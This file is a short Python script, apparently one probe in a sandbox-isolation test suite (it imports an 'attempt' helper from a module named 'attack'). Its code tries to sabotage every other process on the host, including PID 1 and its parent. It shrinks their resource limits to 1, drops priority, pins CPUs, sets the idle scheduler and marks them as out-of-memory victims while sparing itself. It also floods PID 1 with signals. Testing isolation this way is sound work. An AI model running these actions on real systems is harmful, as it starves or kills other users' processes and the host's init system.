"""Changes limits, priority, processors and the kernel's choice of victim of PID 1, of its parent and of all others."""

import os
import resource
from pathlib import Path

from attack import attempt

KINDS = (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_AS)
others = {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {0, os.getpid()}
for pid in sorted(others):
    for kind in KINDS:
        attempt(f"limit {kind} of {pid}", lambda: resource.prlimit(pid, kind, (1, 1)))
    attempt(f"priority of {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    attempt(f"processors of {pid}", lambda: os.sched_setaffinity(pid, {0}))
    attempt(f"scheduler of {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
    attempt(f"victim {pid}", lambda: Path(f"/proc/{pid}/oom_score_adj").write_text("1000"))
attempt("priority of a user", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19))
attempt("to be spared", lambda: Path("/proc/self/oom_score_adj").write_text("0"))
for _ in range(10_000):
    try:
        os.kill(1, 17)  # SIGCHLD, so that it uses time
    except OSError:
        break
